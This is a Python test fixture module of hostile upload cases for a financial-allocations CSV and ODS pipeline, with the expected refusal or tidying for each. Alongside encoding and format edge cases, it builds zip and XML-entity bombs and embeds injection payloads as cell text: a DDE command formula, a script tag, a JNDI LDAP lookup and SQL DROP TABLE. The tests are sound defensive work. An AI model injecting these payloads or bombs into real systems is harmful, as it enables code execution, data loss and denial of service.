"""Hostile files that go through the whole upload pipeline: each with the identifier of its case and its exact answer.

A case is refused with every problem at its row and column, or waits for a second person with the money it states and
a notice of what was tidied. `F20`, `S11` and the others are the identifiers of the quality bars, chapter 7.
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from tests.kernel import ods_files
from tests.kernel.files import packed, parts_of_a_workbook, workbook
from tests.uploads.sending import HEADINGS

MERESHIRE = "2024-25,QXM,nhs-core,allocation,1000.00,recurrent,ok"
FENNMOUTH = "2024-25,01E,nhs-core,allocation,500.50,recurrent,"
GOOD = f"{HEADINGS}\n{MERESHIRE}\n{FENNMOUTH}\n"
TOTAL = "1500.50"
WAITS, REFUSED, NOT_RECEIVED = "awaiting_second_person", "refused", "not received"

Told = tuple[tuple[str, int | None, str], ...]


@dataclass(frozen=True)
class Case:
    """One hostile file and what must become of it."""

    id: str
    what: str
    content: bytes
    state: str = WAITS
    told: Told = ()
    total: str = ""
    notice: str = ""
    name: str = "figures.csv"

    def __str__(self) -> str:
        return f"{self.id} {self.what}"


def ready(id: str, what: str, content: bytes | str, *, total: str = TOTAL, notice: str = "", **more: str) -> Case:
    return Case(id, what, _bytes(content), total=total, notice=notice, **more)


def refused(id: str, what: str, content: bytes | str, *told: tuple[str, int | None, str], **more: str) -> Case:
    return Case(id, what, _bytes(content), REFUSED, told, **more)


def whole(id: str, what: str, content: bytes | str, code: str, row: int | None = None, **more: str) -> Case:
    """The file is refused in one sentence, not for one of its cells."""
    return refused(id, what, content, (code, row, more.pop("column", "")), **more)


def _bytes(content: bytes | str) -> bytes:
    return content.encode() if isinstance(content, str) else content


def lines(*rows: str, headings: str = HEADINGS) -> str:
    return "\n".join([headings, *rows, ""])


def line(**cells: str) -> str:
    """A good row but for the cells that are given."""
    values = {
        "financial_year": "2024-25", "organisation": "QXM", "stream": "nhs-core", "basis": "allocation",
        "amount": "1000.00", "recurrence": "recurrent", "note": "ok",
    } | cells  # fmt: skip
    return ",".join(
        '"' + text.replace('"', '""') + '"' if set(text) & set(',"\n\r') else text for text in values.values()
    )


def one(**cells: str) -> str:
    """A good row, and below it one with something wrong."""
    return lines(FENNMOUTH, line(**cells))


COLUMNS = dict(zip(HEADINGS.split(","), "ABCDEFG", strict=True))


def wrong(id: str, column: str, text: str, code: str) -> Case:
    return refused(id, f"{column} {text[:30]!r}", one(**{column: text}), (code, 3, COLUMNS[column]))


def tidied(id: str, column: str, text: str, notice: str, *, amount: str = "1000.00") -> Case:
    return ready(id, f"{column} {text[:30]!r}", lines(line(**{column: text})), total=amount, notice=notice)


# ── Files ────────────────────────────────────────────────────────────────────────────────────────────────────────────

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
CELL = '<c r="{}{}" t="inlineStr"><is><t>{}</t></is></c>'


def _sheet() -> str:
    rows = [row.split(",") for row in GOOD.strip().splitlines()]
    return "".join(
        f'<row r="{n}">' + "".join(CELL.format(c, n, t) for c, t in zip("ABCDEFG", row, strict=True)) + "</row>"
        for n, row in enumerate(rows, start=1)
    )


def _archive(name: str, content: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return file.getvalue()


def _bomb() -> bytes:
    """A workbook of less than 100 kB that would unpack to 60 MB."""
    return packed(parts_of_a_workbook({"Data": _sheet()}) | {"xl/media/image1.png": bytes(60_000_000)})


def files() -> Iterator[Case]:
    crlf = GOOD.replace("\n", "\r\n")
    noted = GOOD.replace(",ok", ",£5 – naïve")
    yield ready("F01", "byte order mark", b"\xef\xbb\xbf" + GOOD.encode())
    yield ready("F02", "two marks", b"\xef\xbb\xbf\xef\xbb\xbf" + GOOD.encode(), notice="Byte order marks")
    yield ready("F02", "mark inside the heading", GOOD.replace(",amount", ",\ufeffamount"), notice="Byte order marks")
    yield ready("F03", "UTF-16 little endian", GOOD.encode("utf-16"), notice="read as UTF-16")
    yield ready("F03", "UTF-16 big endian", b"\xfe\xff" + GOOD.encode("utf-16-be"), notice="read as UTF-16")
    yield ready("F03", "Unicode text of Excel", GOOD.replace(",", "\t").encode("utf-16"), notice="separated by tabs")
    yield whole("F04", "UTF-16 without its mark", GOOD.encode("utf-16-le"), "ENCODING")
    yield ready("F05", "Windows-1252", noted.encode("cp1252"), notice="read as Windows-1252")
    yield ready("F05", "undefined byte", GOOD.encode().replace(b",ok", b",\x9c\x81"), notice="read as MS-DOS (850)")
    yield ready("F05", "MS-DOS", noted.replace("–", "-").encode("cp850"), notice="read as Windows-1252")
    yield whole(
        "F06", "UTF-8 and one stray byte", noted.encode() + b"2024-25,5E1,nhs-core,allocation,1,,\xa3\n", "ENCODING", 4
    )
    yield whole("F07", "UTF-7", GOOD.replace(",ok", ",+AKM-5"), "ENCODING")
    yield whole("F07", "EBCDIC", GOOD.encode("cp500"), "ENCODING")
    yield whole("F07", "UTF-32", GOOD.encode("utf-32"), "ENCODING")
    yield whole("F08", "overlong", GOOD.encode().replace(b",ok", b",\xc0\xaf"), "ENCODING", 2)
    yield whole("F08", "lone surrogate", GOOD.encode().replace(b",ok", b",\xed\xa0\x80"), "ENCODING", 2)
    yield whole("F08", "cut short at the end", GOOD.encode().rstrip(b"\n") + b"\xc3", "ENCODING", 3)
    yield whole("F09", "NUL", GOOD.replace(",ok", ",o\0k"), "NUL_BYTE", 2, column="G")
    for text in ("\x1b", "\x07", "\u0085", "\u2028"):
        yield wrong("F10", "note", f"a{text}b", "CONTROL_CHAR")
    yield ready("F11", "CRLF", crlf)
    yield ready("F12", "CR only", GOOD.replace("\n", "\r"))
    yield ready("F13", "CRLF and LF mixed", crlf.replace("\r\n", "\n", 1))
    yield ready("F14", "no end of the last line", GOOD.rstrip("\n"))
    yield Case("F15", "no bytes", b"", NOT_RECEIVED, (("EMPTY_FILE", None, ""),))
    yield whole("F16", "only a mark", b"\xef\xbb\xbf", "EMPTY_FILE")
    yield whole("F16", "only blank lines", "\r\n\r\n  \n", "EMPTY_FILE")
    yield whole("F17", "only a heading", f"{HEADINGS}\n", "NO_ROWS")
    yield ready("F18", "workbook named CSV", workbook(_sheet()), notice="Excel workbook")
    for what, content in {
        "old workbook": OLE,
        "PDF": b"%PDF-1.7\n" + GOOD.encode(),
        "gzip": gzip.compress(GOOD.encode()),
        "zip": _archive("figures.csv", GOOD.encode()),
        "web page": b"<html><table><tr><td>1</td></tr></table></html>",
        "JSON": json.dumps([{"amount": "1"}]).encode(),
    }.items():
        yield whole("F19", what, content, "FILE_TYPE")
    yield whole("F20", "gzip bomb", gzip.compress(bytes(30_000_000)), "FILE_TYPE")
    yield whole("F20", "zip bomb", _archive("figures.csv", bytes(30_000_000)), "FILE_TYPE")
    yield whole("F20", "workbook bomb", _bomb(), "EXPANDS_TOO_FAR", name="figures.xlsx")
    yield refused("F24", "cell above the cap", one(note="x" * 4_001), ("FIELD_TOO_LONG", 3, "G"))
    yield whole("F24", "cell of 5 MB", one(note='"' + "x" * 5_000_000), "FIELD_TOO_LONG", 3)
    yield whole("F25", "line without end", "x" * 3_000_000, "LINE_TOO_LONG", 1)
    yield whole("F26", "100,000 columns", "," * 100_000 + "\n", "TOO_MANY_COLUMNS", 1)
    yield whole("F27", "unclosed quotation mark", GOOD.replace(",ok", ',"ok'), "UNCLOSED_QUOTE", 2)
    yield refused("F28", "quotation mark inside a cell", GOOD.replace(",ok", ',o"k'), ("BAD_QUOTE", 2, ""))
    yield refused("F29", "the end of COPY", lines(MERESHIRE, "\\.", FENNMOUTH), ("MISSING_COLUMN", 3, ""))
    yield ready("F29", "the end of COPY in a cell", lines(line(note="\\."), FENNMOUTH))
    yield ready("F30", "sep=,", "sep=,\n" + GOOD, notice="sep=,")
    yield ready("F30", "sep=;", "sep=;\n" + GOOD.replace(",", ";"), notice="separated by semicolons")
    yield ready("F31", "semicolons", GOOD.replace(",", ";"), notice="separated by semicolons")
    yield refused("F31", "decimal comma", one(amount="1,5").replace('"1,5"', "#").replace(",", ";").replace("#", "1,5"),
                  ("AMBIGUOUS_NUMBER", 3, "E"))  # fmt: skip
    yield ready("F32", "tabs", GOOD.replace(",", "\t"), notice="separated by tabs")
    yield ready("F32", "vertical bars", GOOD.replace(",", "|"), notice="separated by vertical bars")
    for name in ("figures.CSV", "figures.txt", "figures"):
        yield ready("F33", name, GOOD, name=name)
    yield whole("F33", "figures.exe", GOOD, "FILE_TYPE", name="figures.exe")
    yield whole("F36", "under a password", OLE + "EncryptedPackage".encode("utf-16-le"), "PASSWORD_PROTECTED")


def _ods(*rows: str, headings: str = HEADINGS, before: str = "", **more: str) -> dict[str, str]:
    """The parts of an ODS workbook: the headings, and rows of cells."""
    heading = ods_files.row(*map(ods_files.text, headings.split(",")))
    return ods_files.parts_of_ods({"Data": before + heading + "".join(rows)}, **more)


def _ods_row(amount: str, *, columns: int = 1, rows: int = 1, code: str = "QXM") -> str:
    before = map(ods_files.text, ("2024-25", code, "nhs-core", "allocation"))
    return ods_files.row(*before, amount, ods_files.text("recurrent"), ods_files.text("ok", columns=columns), rows=rows)


def open_documents() -> Iterator[Case]:
    """ODS workbooks. Their cells also say what they display, and a few bytes can stand for a million rows."""
    thousand, other = ods_files.number(1000, "1,000.00"), _ods_row(ods_files.number(500.5, "500.5"), code="01E")
    good = _ods(_ods_row(thousand), other)
    name = {"name": "figures.ods"}
    yield ready("F18", "ODS", packed(good), **name)
    yield ready("F18", "ODS named CSV", packed(good), notice="OpenDocument spreadsheet")
    yield whole("F19", "OpenDocument text", packed(good | {"mimetype": "application/vnd.oasis.opendocument.text"}),
                "FILE_TYPE", **name)  # fmt: skip
    yield whole("F20", "ODS bomb", packed(good | {"Pictures/a.png": bytes(60_000_000)}), "EXPANDS_TOO_FAR", **name)
    entities = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>' + good["content.xml"]
    yield whole("F20", "ODS with entities", packed(good | {"content.xml": entities}), "DAMAGED_WORKBOOK", **name)
    many = _ods(_ods_row(thousand, rows=2_000_000_000))
    yield whole("F20", "ODS of 2,000,000,000 rows", packed(many), "TOO_MANY_CELLS", None, **name)
    wide = _ods(_ods_row(thousand, columns=16_384))
    yield whole("F26", "ODS of 16,390 columns", packed(wide), "TOO_MANY_COLUMNS", 2, **name)
    hidden = ods_files.MANIFEST.format('<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry>')
    yield whole("F36", "ODS under a password", packed(good | {"META-INF/manifest.xml": hidden}),
                "PASSWORD_PROTECTED", **name)  # fmt: skip
    yield whole("F36", "ODS with a macro", packed(good | {"Basic/Standard/M.xml": "x"}), "MACROS", **name)
    yield refused("B01", "ODS with a row repeated", packed(_ods(_ods_row(thousand, rows=2))),
                  ("DUPLICATE_IN_FILE", 3, "E"), **name)  # fmt: skip
    for id, what, cell, code in (
        ("A17", "percentage", ods_files.number("0.5", "50%", "percentage"), "PERCENTAGE"),
        ("A17", "thousands displayed", ods_files.number(1234500, "1,235"), "SHOWN_OTHERWISE"),
        ("A23", "error stored as 0", ods_files.number(0, "#DIV/0!"), "EXCEL_ERROR"),
        ("A24", "formula without a result", '<table:table-cell table:formula="of:=[.A1]"/>', "FORMULA"),
        ("A26", "euros", ods_files.number(5, "€5", "currency"), "SHOWN_OTHERWISE"),
    ):
        yield refused(id, f"ODS: {what}", packed(_ods(other, _ods_row(cell))), (code, 3, "E"), **name)


def years() -> Iterator[Case]:
    yield ready("F40", "2024-25", lines(MERESHIRE), total="1000.00")
    for text in ("2024/25", "2024-2025", "2024/2025", "2024–25", "FY2024-25", "FY2024/25"):
        yield tidied("F41", "financial_year", text, "other spellings")
    for text in ("15-16", "2015", "FY15"):
        yield wrong("F41", "financial_year", text, "AMBIGUOUS_FY")
    for text in ("2015-17", "2016-15", "2015-6"):
        yield wrong("F42", "financial_year", text, "BAD_FY")
    for text in ("Nov-10", "10-Nov"):
        yield wrong("F43", "financial_year", text, "BAD_FY")


# ── Structure ────────────────────────────────────────────────────────────────────────────────────────────────────────


def structure() -> Iterator[Case]:
    yield refused("S01", "row too short", lines(MERESHIRE, "2024-25,01E,nhs-core"), ("MISSING_COLUMN", 3, ""))
    yield refused("S02", "row too long", lines(MERESHIRE, f"{FENNMOUTH},5"), ("EXTRA_COLUMN", 3, ""))
    yield ready("S03", "comma at the end of every line", GOOD.replace("\n", ",\n"), notice="Empty cells")
    yield refused("S04", "doubled heading", GOOD.replace("recurrence,note", "note,note"), ("DUPLICATE_HEADER", 1, "G"))
    yield refused("S05", "misspelt heading", GOOD.replace("amount", "ammount"),
                  ("MISSING_HEADER", 1, ""), ("UNKNOWN_HEADER", 1, "E"))  # fmt: skip
    yield refused("S06", "unknown heading", GOOD.replace("note", "colour"), ("UNKNOWN_HEADER", 1, "G"))
    backwards = "\n".join(",".join(reversed(row.split(","))) for row in GOOD.strip().split("\n"))
    yield ready("S07", "another order", backwards)
    yield ready(
        "S08", "headings varied", GOOD.replace("financial_year", '" Financial  Year "').replace("amount", "AMOUNT")
    )
    yield whole("S09", "title rows above", f"Allocations\n\nDraft\n{GOOD}", "HEADER_NOT_FOUND", 4)
    yield ready("S10", "blank rows", GOOD.replace("\n", "\n\n", 2) + ",,,,,,\n\n", notice="Blank rows were left out")
    missing = [("REQUIRED", 3, column) for column in "BCDE"]
    yield refused("S10", "row partly filled", lines(MERESHIRE, "2024-25,,,,,,"), *missing)
    yield refused("S11", "total", lines(MERESHIRE, FENNMOUTH, "Total,,,,1500.50,,"), ("LOOKS_LIKE_TOTAL", 4, "B"))
    yield refused("S11", "sum without a label", lines(MERESHIRE, FENNMOUTH, "2024-25,,nhs-core,allocation,1500.50,,"),
                  ("LOOKS_LIKE_TOTAL", 4, "B"))  # fmt: skip
    yield refused("S12", "subtotal between", lines(MERESHIRE, line(organisation="Subtotal North"), FENNMOUTH),
                  ("LOOKS_LIKE_TOTAL", 3, "B"))  # fmt: skip
    yield ready("S13", "line end inside a cell", lines(line(note="two\nlines"), FENNMOUTH), notice="line breaks")
    yield refused(
        "S13", "row below a line end", lines(line(note="two\nlines"), line(organisation="QZZ")), ("UNKNOWN_ORG", 4, "B")
    )
    yield ready("S14", "delimiter and quotes in quotes", lines(line(note='a, "b" “c”'), FENNMOUTH))
    yield wrong("S14", "organisation", "“QXM”", "NON_ASCII_CODE")
    yield ready("S15", "spaces around cells", GOOD.replace(",nhs-core,", ", nhs-core\u00a0,"), notice="Spaces")
    yield whole(
        "S16", "file inside quotation marks", "".join(f'"{row}"\n' for row in GOOD.splitlines()), "HEADER_NOT_FOUND", 1
    )
    yield refused("S17", "merged cells", lines(MERESHIRE, line(organisation="")), ("REQUIRED", 3, "B"))
    yield refused("S18", "one column", "amount\n1\n", *(("MISSING_HEADER", 1, ""),) * 4)
    yield refused("S19", "comment between", lines(MERESHIRE, "# so far", FENNMOUTH), ("MISSING_COLUMN", 3, ""))
    yield whole("S19", "comment above", f"# figures\n{GOOD}", "HEADER_NOT_FOUND", 2)


# ── Cells ────────────────────────────────────────────────────────────────────────────────────────────────────────────

WRONG_AMOUNTS = {
    "A03": ("AMBIGUOUS_NUMBER", ["1,23", "12,34.5", "1,2345"]),
    "A04": ("AMBIGUOUS_NUMBER", ["1.234,56"]),
    "A06": ("SIGN_UNCLEAR", ["1234-", "1234CR", "1234 DR"]),
    "A07": ("SCIENTIFIC", ["1e5", "1E5", "1.23E+07"]),
    "A08": ("NOT_A_NUMBER", ["NaN", "nan"]),
    "A09": ("NOT_A_NUMBER", ["Infinity", "-inf"]),
    "A11": ("TOO_MANY_DECIMALS", ["1.005", "2.675", "1.999"]),
    "A14": ("TOO_LARGE", ["1000000000000.00", "9" * 400]),
    "A15": ("NON_ASCII_DIGITS", ["１２３.４５", "١٢"]),
    "A16": ("NOT_A_NUMBER", ["1_000"]),
    "A17": ("NOT_A_NUMBER", ["0x1A", "0b1", "1/2"]),
    "A19": ("SIGN_UNCLEAR", ["1\u00ad2", "\u00ad12"]),
    "A21": ("AMBIGUOUS_NUMBER", ["1 23"]),
    "A22": ("REQUIRED", ["", "-", "n/a", "NULL", "nil", "TBC"]),
    "A23": ("EXCEL_ERROR", ["#REF!", "#N/A", "#DIV/0!", "########"]),
    "A24": ("FORMULA", ["=SUM(A1:A9)", "=1+1", "+1+1"]),
    "A25": ("NOT_A_NUMBER", ["TRUE"]),
    "A26": ("CURRENCY", ["$100", "€100"]),
}
TIDIED_AMOUNTS = {
    "A01": ("pound sign", [("£1,234.56", "1234.56")]),
    "A02": ("commas", [("1,234.56", "1234.56")]),
    "A05": ("brackets", [("(1,234)", "-1234.00"), ("(£1,234.00)", "-1234.00")]),
    "A10": ("minus sign of zero", [("-0", "0.00"), ("-0.00", "0.00")]),
    "A12": ("zeros", [("10.500", "10.50")]),
    "A18": ("dash", [("−5", "-5.00"), ("–5", "-5.00")]),
    "A19": ("", [("12\u200b", "12.00"), ("1\u200b2", "12.00"), ("12\u00a0", "12.00")]),
    "A20": ("", [("+5", "5.00"), (".5", "0.50"), ("5.", "5.00")]),
    "A21": ("spaces between", [("1 234.56", "1234.56"), ("1\u00a0234.56", "1234.56"), ("1\u2009234.56", "1234.56")]),
    "A26": ("GBP", [("100 GBP", "100.00")]),
}  # fmt: skip


def amounts() -> Iterator[Case]:
    for id, (code, texts) in WRONG_AMOUNTS.items():
        for text in texts:
            yield wrong(id, "amount", text, code)
    yield wrong("A17", "amount", "50%", "PERCENTAGE")
    for text in ("1k", "1.5m"):
        yield wrong("A17", "amount", text, "UNIT")
    for id, (notice, pairs) in TIDIED_AMOUNTS.items():
        for text, amount in pairs:
            yield tidied(id, "amount", text, notice or "Amounts:", amount=amount)
    yield ready("A13", "the largest", lines(line(amount="999999999999.99")), total="999999999999.99")


def codes() -> Iterator[Case]:
    for text in ("1E", "5.00E+01", "50"):
        yield wrong("C01", "organisation", text, "UNKNOWN_CODE")
    for text in ("NA", "NULL", "None", "nan"):
        yield wrong("C02", "organisation", text, "UNKNOWN_ORG")
    yield wrong("C03", "organisation", "QZZ", "UNKNOWN_ORG")
    yield wrong("C03", "organisation", "E06999999", "UNKNOWN_ORG")
    yield wrong("C04", "organisation", "RXX", "WRONG_ORG_TYPE")
    yield wrong("C05", "organisation", "99M", "ORG_CLOSED")
    yield refused("C06", "not yet open", one(financial_year="2019-20"), ("ORG_NOT_OPEN", 3, "B"))
    yield tidied("C07", "organisation", "qxm", "capitals")
    for text in ("QХM", "Е06000001", "QΧM"):
        yield wrong("C08", "organisation", text, "NON_ASCII_CODE")
    yield wrong("C08", "organisation", "O1E", "UNKNOWN_ORG")
    for text in ("Q\u200bXM", "QX\u00adM", "\ufeffQXM", "Q\u200dXM"):
        yield tidied("C09", "organisation", text, "s")
    for text in ("safe \u202etxt", "\u2067isolate"):
        yield wrong("C10", "note", text, "BIDI_CONTROL")
    yield tidied("C11", "note", "cafe\u0301", "accents")
    yield wrong("C12", "organisation", "Ｅ０６", "NON_ASCII_CODE")
    yield tidied("C14", "organisation", "QXM\n", "Spaces around codes")
    yield wrong("C15", "organisation", "E06000001", "NOT_PERMITTED")
    for text in ("=cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "＝1"):
        yield ready("C16", f"note {text!r}", lines(line(note=text), FENNMOUTH))
    for text in ("<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x}", "'; DROP TABLE x; --"):
        yield ready("C17", f"note {text!r}", lines(line(note=text), FENNMOUTH))
    yield ready("C18", "emoji", lines(line(note="👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿"), FENNMOUTH))
    yield ready("C18", "emoji up to the cap", lines(line(note="😀" * 4_000), FENNMOUTH))
    yield wrong("C18", "note", "😀" * 4_001, "FIELD_TOO_LONG")
    for text in ("01-Mar", "Sep-02"):
        yield wrong("C20", "organisation", text, "UNKNOWN_CODE")
    yield refused("C21", "one figure in two spellings", one(organisation=" 01e\u200b", amount="500.50"),
                  ("DUPLICATE_IN_FILE", 3, "E"))  # fmt: skip


NO_YEARS = {
    "D01": ["2025-04-01"],
    "D02": ["01/04/2025"],
    "D03": ["13/04/2025", "04/13/2025"],
    "D04": ["1/4/25", "1.4.2025", "2025-4-1", "20250401"],
    "D05": ["45748", "44286"],
    "D06": ["2025-02-30", "31/04/2025"],
    "D07": ["today", "epoch", "now", "infinity"],
    "D08": ["2025-04-01T00:00:00Z", "2025-03-31T23:30:00Z"],
    "D09": ["April 2025", "Apr-25", "01-Apr-25", "Q1", "P01", "M1"],
    "D11": ["２０２５-04-01", "２０２４-25"],
}


def dates() -> Iterator[Case]:
    """The only dated column of a file of allocations is its financial year, and no date is ever taken for one."""
    for id, texts in NO_YEARS.items():
        for text in texts:
            yield wrong(id, "financial_year", text, "BAD_FY")
    for text in ("0001-02", "1999-00", "2090-91"):
        yield wrong("D10", "financial_year", text, "FY_OUT_OF_RANGE")
    yield wrong("D10", "financial_year", "20255-26", "BAD_FY")


def duplicates() -> Iterator[Case]:
    yield refused("B01", "the same row twice", lines(MERESHIRE, FENNMOUTH, MERESHIRE), ("DUPLICATE_IN_FILE", 4, "E"))
    yield refused("B02", "the same figure with two amounts", one(organisation="01E"), ("CONFLICT_IN_FILE", 3, "E"))


CASES: tuple[Case, ...] = (
    *files(), *open_documents(), *years(), *structure(), *amounts(), *codes(), *dates(), *duplicates(),
)  # fmt: skip
